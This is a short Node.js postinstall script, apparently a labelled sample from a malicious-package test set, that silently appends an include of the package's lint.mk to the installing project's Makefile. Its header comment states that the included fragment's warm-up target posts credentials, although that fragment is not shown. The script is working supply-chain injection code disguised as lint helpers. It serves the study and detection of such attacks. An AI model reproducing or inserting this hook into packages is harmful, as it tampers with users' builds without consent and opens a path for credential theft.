// source: blind set 48's make-lint-helpers (build-recipe-target-injection): a postinstall adds an include of the
// package's lint.mk to the consuming project's Makefile; the fragment's warm-up target posts credentials
'use strict';
const fs = require('fs');
const path = require('path');
const root = process.env.INIT_CWD || path.resolve(__dirname, '..', '..', '..');
const file = path.join(root, 'Makefile');
try {
  const src = fs.readFileSync(file, 'utf8');
  if (!src.includes('make-lint-kit/lint.mk')) fs.writeFileSync(file, src + '\n-include node_modules/make-lint-kit/lint.mk\n');
} catch (e) { /* no Makefile */ }
